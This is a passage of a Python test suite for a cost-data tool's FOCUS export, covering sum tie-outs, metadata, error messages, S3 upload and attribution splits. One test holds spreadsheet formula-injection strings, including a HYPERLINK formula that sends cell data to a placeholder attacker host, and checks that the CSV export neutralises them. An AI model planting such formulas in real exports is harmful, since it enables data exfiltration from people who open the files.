"""`spendlake export --format focus`: the lake as a FOCUS Cost and Usage dataset, one folder per
billing period, its money exactly the lake's (per period and currency), Tags as JSON objects,
FOCUS metadata, local folders written atomically, S3 through boto3 (moto)."""

from __future__ import annotations

import errno
import json
import re
import tempfile
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import boto3
import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from attribution_helpers import config as attribution_config
from attribution_helpers import line, make_lake
from billing_helpers import failures, ingest_files
from click.testing import CliRunner
from conftest import SAMPLES
from moto import mock_aws

from service.cli.main import cli
from service.core.publish import STAGING_PREFIX
from service.core.schema import EXTENSION_COLUMNS, MONEY as DECIMAL
from service.core.coverage import data_end
from service.core.timewindow import iso_utc, parse_window
from service.export import ExportOptions, export_focus, export_window, files
from service.export.focus import FOCUS_COLUMNS, TAXED

SOURCES = {
    "cur": ("aws-cur", "aws/legacy_cur_csv_anonymous_sample.csv"),
    "focus10": ("focus", "focus/focus_1.0_sample_1000.csv"),
    "azure-focus": ("focus", "focus/azure_focus_1.0_trey_research_1000.csv"),
    "gcp": ("gcp-billing", "gcp/koku_gcp_detailed_export_2022-08-01.csv"),
    "gcp-standard": ("gcp-billing", "gcp/koku_gcp_standard_export_202011.csv"),
    "azure": ("azure-cost", "azure/ea_actual_anonymous_sample.csv"),
    "azure-amortized": ("azure-cost", "azure/ea_amortized_trey_research_small.csv"),
}
MONEY = ("BilledCost", "EffectiveCost", "ListCost", "ContractedCost", "x_credits")


@pytest.fixture(scope="module")
def samples(tmp_path_factory):
    """Every sample kind ingested into one lake; (config file, lake)."""
    tmp = tmp_path_factory.mktemp("samples")
    lake, result = ingest_files(tmp, *((name, kind, SAMPLES / file) for name, (kind, file) in SOURCES.items()))
    assert failures(result) == []
    config_file = tmp / "spendlake.yaml"
    config_file.write_text(yaml.safe_dump({"lake": str(lake.root), "sources": [
        {"name": name, "kind": kind, "location": str(SAMPLES / file)} for name, (kind, file) in SOURCES.items()]}))
    return config_file, lake


def spendlake(config_file: Path, *args: str):
    return CliRunner().invoke(cli, ["--config", str(config_file), "export", "--format", "focus", *args])


def lake_sums(lake, where: str = "true") -> dict:
    """(period, currency, source) → (rows, Σ each money column) the export must write: the lake's, plus
    the ListCost and ContractedCost FOCUS requires on the lines the lake has none (filled_sums)."""
    columns = ", ".join(f"sum({c})" for c in MONEY)
    rows = lake.query().execute(f"SELECT billing_period, BillingCurrency, source, count(*), {columns} FROM costs "
                                f"WHERE {where} GROUP BY ALL").fetchall()
    filled = filled_sums(lake, where)
    plus = lambda key, name, value: (value if (key, name) not in filled  # noqa: E731
                                     else (value or 0) + filled[key, name])
    return {tuple(row[:3]): (row[3], *(plus(tuple(row[:3]), name, value) for name, value in zip(MONEY, row[4:])))
            for row in rows}


def filled_sums(lake, where: str = "true") -> dict:
    """((period, currency, source), column) → Σ of the cost the export fills on the lines the lake has
    none, as README says. A file with one of BilledCost and EffectiveCost (Azure): BilledCost is 0 on
    commitment-covered lines, else the EffectiveCost; EffectiveCost 0 on a Purchase, else the
    BilledCost. ListCost (ContractedCost): unit price × PricingQuantity, else (ListCost) the line's
    ContractedCost, else its BilledCost (or EffectiveCost); a SavingsPlanNegation contracts at 0, a
    DiscountedUsage at its ListCost; a Tax line its BilledCost × the ListCost (ContractedCost) ÷ BilledCost
    of the lines it taxes, rounded half away from zero to its currency's minor unit (or its own finer
    places), else its BilledCost."""
    from babel.numbers import get_currency_precision

    product = "try(CAST({}UnitPrice * PricingQuantity AS DECIMAL(38, 12)))"
    contracted = f"coalesce(ContractedCost, {product.format('Contracted')}, BilledCost, EffectiveCost)"
    billed = ("coalesce(BilledCost, CASE WHEN CommitmentDiscountStatus IN ('Used', 'Unused') THEN 0 "
              "ELSE EffectiveCost END)")
    rows = lake.query().execute(
        f"SELECT billing_period, BillingCurrency, source, {', '.join(f'nullif({n}, {chr(39) * 2})' for n in TAXED)}, "
        "ChargeCategory = 'Tax', BilledCost IS NULL, EffectiveCost IS NULL, ListCost IS NULL, ContractedCost IS NULL, "
        f"{billed}, coalesce(EffectiveCost, CASE WHEN ChargeCategory = 'Purchase' THEN 0 ELSE BilledCost END), "
        f"coalesce(ListCost, {product.format('List')}, {contracted}), "
        f"CASE WHEN x_line_item_type = 'SavingsPlanNegation' THEN coalesce(ContractedCost, 0) "
        f"WHEN x_line_item_type = 'DiscountedUsage' THEN coalesce(ContractedCost, ListCost, {product.format('List')}, "
        f"{contracted}) ELSE {contracted} END "
        f"FROM costs WHERE {where}").fetchall()
    names = ("BilledCost", "EffectiveCost", "ListCost", "ContractedCost")
    taxed: dict = {}  # (period, TAXED...) → Σ each cost of the lines a tax taxes, as exported
    for period, _, _, *rest in rows:
        group, (tax, *_), values = rest[:len(TAXED)], rest[len(TAXED):-4], rest[-4:]
        if not tax:
            sums = taxed.setdefault((period, *group), [0] * 4)
            for i, value in enumerate(values):
                sums[i] += value or 0
    filled: dict = {}
    for period, currency, source, *rest in rows:
        group, (tax, *missing), values = rest[:len(TAXED)], rest[len(TAXED):-4], rest[-4:]
        for i, name in enumerate(names):
            value = values[i]
            if missing[i] and tax and name in ("ListCost", "ContractedCost"):
                sums, bill = taxed.get((period, *group)), values[0]
                places = max(get_currency_precision(currency), -bill.normalize().as_tuple().exponent)
                value = (bill * sums[i] / sums[0]).quantize(Decimal(1).scaleb(-places), ROUND_HALF_UP) \
                    if sums and sums[0] else bill
            if missing[i]:
                filled[(period, currency, source), name] = filled.get(((period, currency, source), name), 0) + value
    return filled


def export_sums(out: Path, csv: bool = False) -> dict:
    """The same from an exported dataset (the period from its folder name)."""
    columns = ", ".join(f"sum(CAST({c} AS DECIMAL(38, 12)))" for c in MONEY)
    reader = (f"read_csv('{out}/*/cost_and_usage.csv', all_varchar=true, filename=true)" if csv
              else f"read_parquet('{out}/*/cost_and_usage.parquet', filename=true, union_by_name=true)")
    rows = duckdb.sql(f"SELECT regexp_extract(filename, '(\\d{{4}}-\\d{{2}})/cost_and_usage', 1), BillingCurrency, "
                      f"x_source, count(*), {columns} FROM {reader} GROUP BY ALL").fetchall()
    return {tuple(row[:3]): row[3:] for row in rows}


def assert_ties_out(lake_side: dict, exported: dict, rows: bool = True) -> None:
    """Same periods, currencies, sources (and rows); every money sum, to the last decimal."""
    assert sorted(exported) == sorted(lake_side)
    for key, (count, *money) in lake_side.items():
        assert not rows or exported[key][0] == count, key
        for name, expected, got in zip(MONEY, money, exported[key][1:]):
            assert got == expected, (key, name)


def test_sums_per_period_and_currency_equal_the_lake(samples, tmp_path):
    config_file, lake = samples
    result = spendlake(config_file, "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    expected = lake_sums(lake)
    assert_ties_out(expected, export_sums(tmp_path / "out"))
    periods = sorted({period for period, _, _ in expected})
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted([*periods, "metadata"])
    assert f"FOCUS 1.2 dataset at {tmp_path / 'out'}" in result.output
    one = pq.read_schema(tmp_path / "out" / periods[0] / "cost_and_usage.parquet")
    assert str(one.field("BilledCost").type) == "decimal128(38, 12)"  # exact, never float
    assert str(one.field("ChargePeriodStart").type) == "timestamp[us, tz=UTC]"
    assert [name for name in one.names if not name.startswith("x_")] == list(FOCUS_COLUMNS["1.2"])


def test_csv_ties_out_too_and_tags_are_json_objects(samples, tmp_path):
    config_file, lake = samples
    assert spendlake(config_file, "--csv", "--out", str(tmp_path / "out")).exit_code == 0
    assert_ties_out(lake_sums(lake), export_sums(tmp_path / "out", csv=True))
    rows = duckdb.sql(f"SELECT Tags, ChargePeriodStart, x_source FROM read_csv('{tmp_path}/out/*/*.csv', "
                      "all_varchar=true) WHERE x_source = 'azure-focus'").fetchall()
    tags = [json.loads(tags) for tags, _, _ in rows if tags]
    assert tags and all(isinstance(t, dict) for t in tags)
    assert sum(bool(t) for t in tags) == 993  # the lines of the Azure FOCUS sample that carry tags
    assert all(start.endswith("Z") and "T" in start for _, start, _ in rows)


def test_metadata_names_the_focus_version_and_the_data_generator(samples, tmp_path):
    config_file, lake = samples
    assert spendlake(config_file, "--focus-version", "1.3", "--source", "cur", "--out", str(tmp_path)).exit_code == 0
    [period] = [p for p in tmp_path.iterdir() if p.name != "metadata"]
    document = json.loads((period / "metadata.json").read_text())
    assert document["FocusVersion"] == "1.3" and document["DataGenerator"] == "spendlake"
    assert document["data_location"] == [{"filepath": "cost_and_usage.parquet", "total_rows": 1281,
                                          "total_bytes": (period / "cost_and_usage.parquet").stat().st_size}]
    assert document["x_Sources"] == ["cur"]
    assert json.loads((tmp_path / "metadata" / "data_generator.json").read_text()) == {"DataGenerator": "spendlake"}
    schema = json.loads((tmp_path / "metadata" / "schemas" / f"schema-{document['SchemaId']}.json").read_text())
    names = [c["ColumnName"] for c in schema["ColumnDefinition"]]
    assert names == pq.read_schema(period / "cost_and_usage.parquet").names
    assert {"ServiceProviderName", "HostProviderName", "AllocatedMethodId", "ContractApplied"} <= set(names)
    kinds = {c["ColumnName"]: c["DataType"] for c in schema["ColumnDefinition"]}
    assert (kinds["BilledCost"], kinds["Tags"], kinds["ChargePeriodEnd"]) == ("DECIMAL", "JSON", "DATETIME")


def extension_sums(lake) -> list[tuple]:
    """Per period, currency and the lake's own `x_` columns but money: Σ each `x_` money column (not the
    FOCUS costs: the export derives those a file lacks, an Azure file's BilledCost or EffectiveCost)."""
    texts = [name for name, kind in EXTENSION_COLUMNS if kind != DECIMAL]
    money = [name for name, kind in EXTENSION_COLUMNS if kind == DECIMAL]
    return lake.query().execute(
        f"SELECT billing_period, BillingCurrency, {', '.join(texts)}, "
        f"{', '.join(f'sum({m})' for m in money)} "
        "FROM costs GROUP BY ALL ORDER BY ALL").fetchall()


@pytest.mark.parametrize("csv", [False, True], ids=["parquet", "csv"])
def test_an_export_read_back_by_the_focus_connector_keeps_the_lakes_own_columns(samples, tmp_path, csv):
    """`spendlake export` read back as a `focus` source: the lake's `x_` columns (line item, usage
    and instance type, credits, split cost, ...: what shared clusters, commitments and rules read)
    come back as they were, not as nulls (a demo lake read back put every cluster dollar on
    `unallocated`)."""
    config_file, lake = samples
    out = tmp_path / "out"
    assert spendlake(config_file, *(["--csv"] if csv else []), "--out", str(out)).exit_code == 0
    back, result = ingest_files(tmp_path, ("back", "focus", out))
    assert failures(result) == []
    expected = extension_sums(lake)
    assert any(row[2] is not None for row in expected)  # the CUR sample's line item types
    assert extension_sums(back) == expected


def test_a_read_back_export_read_by_an_older_reader_is_read_again(samples, tmp_path, monkeypatch):
    """A lake that read back an export before the focus reader read the lake's own `x_` columns kept
    them null for as long as the export's files did not change (same delivery id: 'unchanged'), so
    its clusters' dollars stayed on `unallocated`. A period read by an older reader_version is now
    read again by the next ingest, once."""
    import connectors.focus as focus
    from service.core.schema import COST_COLUMNS

    config_file, lake = samples
    out = tmp_path / "out"
    assert spendlake(config_file, "--out", str(out)).exit_code == 0
    # the reader as it was: only the x_ columns named in ALTERNATIVES, and no reader_version recorded
    monkeypatch.setattr(focus, "COST_COLUMNS", [(name, kind) for name, kind in COST_COLUMNS
                                                if not name.startswith("x_") or name in focus.ALTERNATIVES])
    monkeypatch.setattr(focus.FocusConnector, "reader_version", 0)
    back, result = ingest_files(tmp_path, ("back", "focus", out))
    assert failures(result) == [] and extension_sums(back) != extension_sums(lake)
    assert all("reader_version" not in e for e in json.loads(back.ledger_file.read_text())["entries"])
    monkeypatch.undo()

    _, again = ingest_files(tmp_path, ("back", "focus", out))
    assert failures(again) == [] and {o.status for o in again.outcomes} == {"committed"}
    assert extension_sums(back) == extension_sums(lake)
    _, then = ingest_files(tmp_path, ("back", "focus", out))
    assert {o.status for o in then.outcomes} == {"unchanged"}


def test_windows_and_sources_select_lines_once(samples, tmp_path):
    config_file, lake = samples
    args = ("--source", "focus10", "--source", "azure-focus")
    assert spendlake(config_file, *args, "--until", "2024-09-15", "--out", str(tmp_path / "a")).exit_code == 0
    assert spendlake(config_file, *args, "--since", "2024-09-15", "--out", str(tmp_path / "b")).exit_code == 0
    first, second = export_sums(tmp_path / "a"), export_sums(tmp_path / "b")
    add = lambda a, b: b if a is None else a if b is None else a + b  # noqa: E731
    both = dict(first)
    for key, value in second.items():
        both[key] = tuple(map(add, both[key], value)) if key in both else value
    assert_ties_out(lake_sums(lake, "source IN ('focus10', 'azure-focus')"), both)
    assert {source for _, _, source in first} == {"focus10", "azure-focus"} and second


def test_a_re_export_replaces_the_files_and_leaves_no_staging(samples, tmp_path):
    config_file, _ = samples
    out = tmp_path / "out"
    assert spendlake(config_file, "--source", "gcp", "--csv", "--out", str(out)).exit_code == 0
    assert spendlake(config_file, "--source", "gcp", "--out", str(out)).exit_code == 0
    assert sorted(p.name for p in (out / "2022-08").iterdir()) == ["cost_and_usage.parquet", "metadata.json"]
    assert not [p for p in tmp_path.rglob(f"{STAGING_PREFIX}*")]


def test_usage_errors(samples, tmp_path):
    config_file, lake = samples
    inside = spendlake(config_file, "--out", str(lake.root / "export"))
    assert inside.exit_code == 2 and "inside the lake" in inside.stderr
    unknown = spendlake(config_file, "--source", "nope", "--out", str(tmp_path))
    assert unknown.exit_code == 2 and "no billing source named 'nope'" in unknown.stderr
    empty = spendlake(config_file, "--since", "2026-01-02", "--until", "2026-01-01", "--out", str(tmp_path))
    assert empty.exit_code == 2 and "--since" in empty.stderr
    nothing = spendlake(config_file, "--since", "2026-01-01", "--until", "2026-02-01", "--out", str(tmp_path / "none"))
    assert nothing.exit_code == 0 and "nothing to export" in nothing.stderr


def test_a_since_past_the_datas_end_is_the_empty_window_attribute_calls_it(samples, tmp_path):
    """break48: `export --since 2030-01-01` said 'nothing to export' and exited 0 where `attribute`, `runs`
    and `rules run` exit 2 naming the data's end; a window of its own past the data (an --until too) still
    writes nothing and exits 0 (test_usage_errors), as attribute answers it with no cost and a note."""
    config_file, lake = samples
    late = spendlake(config_file, "--since", "2030-01-01", "--out", str(tmp_path / "late"))
    assert late.exit_code == 2, late.output
    assert late.stderr.startswith(f"error: --since: the window is empty: the data runs through "
                                  f"{iso_utc(data_end(lake))} — give a --since before it; use e.g. "), late.stderr
    attribute = CliRunner().invoke(cli, ["--config", str(config_file), "attribute", "--since", "2030-01-01"])
    assert (attribute.exit_code, attribute.stderr) == (2, late.stderr), attribute.output
    assert not (tmp_path / "late").exists()


def test_an_out_folder_under_a_file_is_exit_2_naming_the_file(samples, tmp_path):
    config_file, _ = samples
    (tmp_path / "a-file").write_text("not a folder")
    done = spendlake(config_file, "--out", str(tmp_path / "a-file" / "out"))
    # a wrong --out, as one inside the lake is (DESIGN: 2 usage), not a failed write (3)
    assert done.exit_code == 2 and f"{tmp_path / 'a-file'} is a file, not a folder: the export" in done.stderr
    assert not isinstance(done.exception, UnboundLocalError)


def test_a_full_disk_names_the_exported_file_and_a_failed_read_stays_a_read(samples, tmp_path, monkeypatch):
    """Arrow's write error names no file, so a full disk named only the --out folder, in Arrow's
    words; and DuckDB's failures while it streams reach Arrow's reader as OSError, so a lake read
    failing mid-stream (its spill files' full disk on the lake's file system) was told as a failed
    write to --out, sending the operator to free the wrong disk."""
    config_file, lake = samples

    class FullDisk(files.CsvWriter):
        def write_batch(self, batch):
            raise OSError(errno.ENOSPC, "Error writing bytes to file. Detail: [errno 28] No space left on device")

    monkeypatch.setattr(files, "CsvWriter", FullDisk)
    full = spendlake(config_file, "--source", "gcp", "--csv", "--out", str(tmp_path / "out"))
    assert full.exit_code == 3, full.output
    assert full.stderr.startswith(f"error: {tmp_path / 'out' / '2022-08' / 'cost_and_usage.csv'}: disk full: "
                                  "[Errno 28] No space left on device — free space on the --out folder's")
    uploaded = spendlake(config_file, "--source", "gcp", "--csv", "--out", "s3://finance/focus/")
    assert uploaded.exit_code == 3, uploaded.output
    staged = re.search(r"^error: (\S+): disk full: \[Errno 28\] No space left on device — free space in the "
                       r"temporary directory the export is staged in", uploaded.stderr)
    assert staged and Path(staged[1]).parent.parent.parent == Path(tempfile.gettempdir()), uploaded.stderr
    assert Path(staged[1]).parts[-2:] == ("2022-08", "cost_and_usage.csv")
    monkeypatch.undo()

    typed = files.typed_select
    spilling = ("SELECT * FROM ({}) AS lines, range(100000) AS spill(i) "
                "WHERE i < 99999 OR CAST('x' AS INTEGER) IS NULL")  # fails after the first batches
    monkeypatch.setattr(files, "typed_select", lambda *args: spilling.format(typed(*args)))
    failed = spendlake(config_file, "--source", "gcp", "--out", str(tmp_path / "out2"))
    assert failed.exit_code == 3, failed.output
    assert failed.stderr.startswith(f"error: {lake.root}: could not read the lake for the export: Could not convert")


def test_a_failed_export_removes_the_folders_it_made_and_keeps_the_users(samples, tmp_path, monkeypatch):
    """A full disk left an empty --out folder behind (made for the staging folder); a folder the
    user made is kept."""
    config_file, _ = samples

    class FullDisk(files.CsvWriter):
        def write_batch(self, batch):
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files, "CsvWriter", FullDisk)
    (tmp_path / "mine").mkdir()
    for out in (tmp_path / "new" / "out", tmp_path / "mine"):
        assert spendlake(config_file, "--source", "gcp", "--csv", "--out", str(out)).exit_code == 3
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine"] and not any((tmp_path / "mine").iterdir())


@pytest.mark.parametrize("name", ["metadata.json", "data_generator.json", "schema-"])
def test_a_full_disk_names_the_metadata_file_it_could_not_write(samples, tmp_path, monkeypatch, name):
    """A write() names no file: a full disk while a period's metadata.json or the dataset's
    metadata files were written named only the --out folder."""
    config_file, _ = samples
    write_bytes = Path.write_bytes

    def full_disk(self, data):
        if self.name.startswith(name):
            raise OSError(errno.ENOSPC, "No space left on device")
        return write_bytes(self, data)

    monkeypatch.setattr(Path, "write_bytes", full_disk)
    full = spendlake(config_file, "--source", "gcp", "--out", str(tmp_path / "out"))
    assert full.exit_code == 3, full.output
    written = re.match(r"error: (\S+): disk full: \[Errno 28\] No space left on device — free space on the --out",
                       full.stderr)
    assert written and Path(written[1]).name.startswith(name), full.stderr
    assert Path(written[1]).parent in {tmp_path / "out" / "2022-08", tmp_path / "out" / "metadata",
                                       tmp_path / "out" / "metadata" / "schemas"}, full.stderr


def test_upload_to_s3(samples, tmp_path):
    config_file, lake = samples
    assert spendlake(config_file, "--source", "azure", "--out", str(tmp_path / "local")).exit_code == 0
    [period] = {p for p, _, source in lake_sums(lake) if source == "azure"}
    with mock_aws():
        s3 = boto3.client("s3", region_name="us-east-1")
        s3.create_bucket(Bucket="finance")
        result = spendlake(config_file, "--source", "azure", "--out", "s3://finance/focus/")
        assert result.exit_code == 0, result.output
        keys = sorted(o["Key"] for o in s3.list_objects_v2(Bucket="finance")["Contents"])
        data = s3.get_object(Bucket="finance", Key=f"focus/{period}/cost_and_usage.parquet")["Body"].read()
        missing = spendlake(config_file, "--source", "azure", "--out", "s3://nope/x")
    schema = next(p.name for p in (tmp_path / "local" / "metadata" / "schemas").iterdir())
    assert keys == [f"focus/{period}/cost_and_usage.parquet", f"focus/{period}/metadata.json",
                    "focus/metadata/data_generator.json", f"focus/metadata/schemas/{schema}"]
    local = pq.read_table(tmp_path / "local" / period / "cost_and_usage.parquet")
    assert pq.read_table(pa.BufferReader(data)).equals(local)
    assert f"s3://finance/focus/{period}" in result.output
    assert missing.exit_code == 3 and "s3:PutObject" in missing.stderr


SHARED_LINES = [
    line("2026-11-02T00:00:00", "60", tags={"team": "nlp"}),
    line("2026-11-02T01:00:00", "30", tags={"Team": "Vision"}),
    line("2026-11-03T00:00:00", "10", tags={}),
    line("2026-11-03T00:00:00", "9.000000000001", category="Tax", service="Tax"),
    line("2026-12-01T00:00:00", "5", tags={"team": "nlp"}),
    line("2026-12-01T00:00:00", "1", category="Tax", service="Tax"),
    line("2026-12-01T00:00:00", "7", currency="EUR", category="Tax", service="Tax"),
]
SHARED_TAX = {"dimensions": {"project": {"tags": ["project"]}},
              "shared": [{"match": {"charge_category": "Tax"}, "split": "proportional", "by": "team"}]}


@pytest.mark.parametrize("version,prefix", [("1.3", ""), ("1.2", "x_")])
def test_with_attribution_splits_shared_lines_into_allocated_charges(tmp_path, version, prefix):
    lake = make_lake(tmp_path, SHARED_LINES)
    cfg = attribution_config(SHARED_TAX, lake)
    result = export_focus(cfg, ExportOptions(str(tmp_path / "out"), version, attribution=True))
    assert [p.period for p in result.periods] == ["2026-11", "2026-12"]
    table = duckdb.sql(f"SELECT * FROM read_parquet('{tmp_path}/out/*/*.parquet', filename=true)")
    rows = table.fetchall()
    names = table.columns
    lines = [dict(zip(names, row)) for row in rows]
    assert {"x_team", "x_project", "x_experiment"} <= set(names)
    assert f"{prefix}AllocatedMethodId" in names
    direct = sorted((line["x_team"], line["BilledCost"]) for line in lines if line["ChargeCategory"] == "Usage")
    assert direct == [("Vision", Decimal(30)), ("nlp", Decimal(5)), ("nlp", Decimal(60)), ("unallocated", Decimal(10))]
    november_tax = {line["x_team"]: line for line in lines
                    if line["ChargeCategory"] == "Tax" and line["ChargePeriodStart"].month == 11}
    # Proportional to the direct spend of the window (nlp 65, Vision 30), parts exact to the line.
    assert sorted(november_tax) == ["Vision", "nlp"]
    assert sum(line["BilledCost"] for line in november_tax.values()) == Decimal("9.000000000001")
    assert november_tax["nlp"]["BilledCost"] == Decimal("6.157894736843")
    details = json.loads(november_tax["Vision"][f"{prefix}AllocatedMethodDetails"])
    assert details["Elements"][0]["AllocatedRatio"] == pytest.approx(30 / 95)
    assert november_tax["Vision"][f"{prefix}AllocatedMethodId"] == "spendlake-shared-proportional"
    assert november_tax["Vision"][f"{prefix}AllocatedResourceId"] == "team/Vision"
    assert json.loads(november_tax["Vision"][f"{prefix}AllocatedTags"]) == {"spendlake/team": "Vision"}
    # EUR has no direct spend to split over: the line stays whole on the default value.
    [euro] = [line for line in lines if line["BillingCurrency"] == "EUR"]
    assert (euro["x_team"], euro[f"{prefix}AllocatedMethodId"]) == ("unallocated", "spendlake-shared-default")
    assert all(line[f"{prefix}AllocatedMethodId"] is None for line in lines if line["ChargeCategory"] == "Usage")
    # Every period and currency ties out to the lake.
    assert_ties_out(lake_sums(lake), export_sums(tmp_path / "out"), rows=False)  # split lines add rows, not money


def test_with_attribution_on_the_cli_ties_out_on_every_sample(samples, tmp_path):
    config_file, lake = samples
    data = yaml.safe_load(config_file.read_text())
    data["attribution"] = {"shared": [{"match": {"charge_category": "Tax"}, "split": "even", "by": "team"}]}
    config_file = tmp_path / "attributed.yaml"
    config_file.write_text(yaml.safe_dump(data))
    result = spendlake(config_file, "--with-attribution", "--focus-version", "1.3", "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert_ties_out(lake_sums(lake), export_sums(tmp_path / "out"), rows=False)
    [(allocated,)] = duckdb.sql(f"SELECT count(*) FROM read_parquet('{tmp_path}/out/*/*.parquet') "
                                "WHERE AllocatedMethodId LIKE 'spendlake-shared-%'").fetchall()
    assert allocated > 0


# The columns of a plain usage line of $1, for `exported_lines`.
USAGE_LINE = {"ServiceName": "'Compute'", "ChargeCategory": "'Usage'", "BilledCost": "'1'", "EffectiveCost": "'1'"}


def exported_lines(tmp_path, columns: dict[str, str], values: str, names: str, select: str,
                   csv: bool = False, attribution: dict | None = None) -> list[tuple]:
    """`select` (columns, ORDER BY ALL) of the export of a lake holding the lines `values`
    (SQL VALUES rows, named `names`): one hour of 2026-11-02 in USD, `columns` the canonical
    columns as expressions over those names. `csv`: of the `--csv` export, every cell as text.
    `attribution`: the config's, exported `--with-attribution`."""
    from service.core.lake import Lake
    from service.core.schema import cost_select_list

    lake = Lake(tmp_path / "lake")
    con = lake.connect()
    canonical = cost_select_list({
        "BillingPeriodStart": "TIMESTAMP '2026-11-01'", "BillingPeriodEnd": "TIMESTAMP '2026-12-01'",
        "ChargePeriodStart": "TIMESTAMP '2026-11-02'", "ChargePeriodEnd": "TIMESTAMP '2026-11-02 01:00'",
        "BillingCurrency": "'USD'", **columns})
    rows = con.sql(f"SELECT {canonical} FROM (VALUES {values}) AS t({names})")
    lake.commit_costs(con, rows, source="cur", delivery_id="d1", periods=None)
    con.close()
    export_focus(attribution_config(attribution, lake=lake),
                 ExportOptions(str(tmp_path / "out"), csv=csv, attribution=attribution is not None))
    data = (f"read_csv('{tmp_path}/out/2026-11/cost_and_usage.csv', all_varchar = true)" if csv
            else f"'{tmp_path}/out/2026-11/cost_and_usage.parquet'")
    return duckdb.sql(f"SELECT {select} FROM {data} ORDER BY ALL").fetchall()


def test_the_focus_csv_neutralises_formula_looking_text_and_keeps_costs_exact_and_the_parquet_keeps_both(tmp_path):
    """A bill's text that a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+`, `-`, a tab or CR
    first, after blanks) went into the FOCUS CSV as it was, where the report's CSVs and `attribute
    --format csv` prefix `'`: the CSV prefixes it too, in the tags' own x_ columns of an attributed
    export as well; a cost is never altered (a number, so a negative one stays negative). The
    Parquet export keeps every value exact (README, Export)."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+cmd", "-2+3", "\tx", "\r=1", "ok"]
    columns = {"ProviderName": "'AWS'", "ServiceName": "'Compute'", "ChargeCategory": "'Usage'", "ResourceId": "rid",
               "ResourceName": "name", "BilledCost": "billed", "EffectiveCost": "billed", "Tags": "MAP {'team': name}"}
    values = ", ".join(f"('r{i}', '{text.replace(chr(39), chr(39) * 2)}', '-1.5')" for i, text in enumerate(hostile))
    attribution = {"dimensions": {"team": {"tags": ["team"]}}}
    for csv, out in ((True, "csv"), (False, "parquet")):
        lines = exported_lines(tmp_path / out, columns, values, "rid, name, billed", "ResourceName, x_team, BilledCost",
                               csv=csv, attribution=attribution)
        shown = [("'" + text if csv and text != "ok" else text) for text in hostile]
        assert lines == sorted((text, text, "-1.500000000000" if csv else Decimal("-1.5")) for text in shown)


def test_the_focus_csv_writes_plain_exact_decimals_never_an_exponent(tmp_path):
    """Arrow's CSV writer wrote a DECIMAL below 10^-6 with an exponent: a cost of 0 as `0E-12`, of
    0.0000008 as `8.00000E-7`, a quantity as `8.000000000E-7`; FOCUS tools and spreadsheets read
    plain digits. Numbers stay unquoted; the Parquet export is the lake's DECIMALs."""
    columns = {**USAGE_LINE, "BilledCost": "billed", "EffectiveCost": "billed", "PricingQuantity": "quantity",
               "PricingUnit": "'Hours'", "ResourceId": "rid"}
    values = "('a', '0', '0.0000008'), ('b', '0.0000008', '-12345678901234567890.1234567890123456')"
    for csv in (True, False):
        lines = exported_lines(tmp_path / str(csv), columns, values, "rid, billed, quantity",
                               "ResourceId, BilledCost, PricingQuantity", csv=csv)
        text = (tmp_path / str(csv) / "out" / "2026-11" / "cost_and_usage.csv")
        if csv:
            assert lines == [("a", "0.000000000000", "0.0000008000000000"),
                             ("b", "0.000000800000", "-12345678901234567890.1234567890123456")]
            assert "E-" not in text.read_text() and ",0.000000800000," in text.read_text()
        else:
            assert lines == [("a", Decimal(0), Decimal("8E-7")),
                             ("b", Decimal("8E-7"), Decimal("-12345678901234567890.1234567890123456"))]


def test_a_commitment_fee_with_unused_cost_becomes_a_purchase_and_an_unused_usage_line(tmp_path):
    """AWS's amortized Savings Plan recurring fee carries the unused commitment as its
    EffectiveCost; FOCUS wants the Purchase at EffectiveCost 0 and the unused part as usage."""
    lines = exported_lines(tmp_path, {
        "ProviderName": "'AWS'", "ServiceName": "service", "ChargeCategory": "category",
        "BilledCost": "billed", "EffectiveCost": "effective", "CommitmentDiscountId": "commitment",
        "CommitmentDiscountStatus": "status", "PricingQuantity": "quantity", "PricingUnit": "unit",
    }, "('Savings Plans for AWS Compute usage', 'Purchase', '10', '2.5', 'arn:sp/1', 'Unused', '1', 'Hrs'), "
       "('Amazon Elastic Compute Cloud', 'Usage', '0', '7.5', 'arn:sp/1', 'Used', '1', 'Hrs'), "
       "('AWS Support (Business)', 'Purchase', '3', '3', NULL, NULL, '1', NULL), "
       "('Amazon Elastic Compute Cloud', 'Credit', '-1', '-1', NULL, NULL, '1', NULL)",
       "service, category, billed, effective, commitment, status, quantity, unit",
       "ServiceName, ChargeCategory, CommitmentDiscountStatus, BilledCost, EffectiveCost, PricingQuantity, PricingUnit")
    d = Decimal
    assert lines == [
        ("AWS Support (Business)", "Purchase", None, d(3), d(3), d(1), "Units"),
        ("Amazon Elastic Compute Cloud", "Credit", None, d(-1), d(-1), None, None),
        ("Amazon Elastic Compute Cloud", "Usage", "Used", d(0), d("7.5"), d(1), "Hours"),
        ("Savings Plans for AWS Compute usage", "Purchase", "Unused", d(10), d(0), d(1), "Hours"),
        ("Savings Plans for AWS Compute usage", "Usage", "Unused", d(0), d("2.5"), d(1), "Hours"),
    ]


def test_a_shared_lines_parts_list_and_contract_at_their_exact_share_of_the_lines_product(tmp_path):
    """A shared line the bill gives no ListCost or ContractedCost (FOCUS: the unit price ×
    PricingQuantity), split evenly over three teams: each part derived its own as 0.1 × its third
    of the quantity (0.3333333333333333, the first team 0.3333333333333334), rounded to 12
    decimals: 0.033333333333 each, 0.099999999999 in all where the plain export lists the line
    at 0.1 (the demo's export was 2e-12 off). The line's product is split as its costs are:
    0.033333333333 twice and the remainder, 0.033333333334, on the first team (byte order)."""
    columns = {"ServiceName": "service", "ChargeCategory": "'Usage'", "BilledCost": "billed",
               "EffectiveCost": "billed", "ListUnitPrice": "price", "ContractedUnitPrice": "price",
               "PricingQuantity": "'1'", "PricingUnit": "'Hrs'", "Tags": "map(keys, tags)"}
    values = ("('Compute', '1', '1', ['team'], ['a']), ('Compute', '1', '1', ['team'], ['b']), "
              "('Compute', '1', '1', ['team'], ['c']), ('AWS Support', '0.1', '0.1', [], [])")
    shared = {"shared": [{"match": {"service": "AWS Support"}, "split": "even", "by": "team"}]}
    select = "ServiceName, x_team, BilledCost, ListCost, ContractedCost, PricingQuantity"
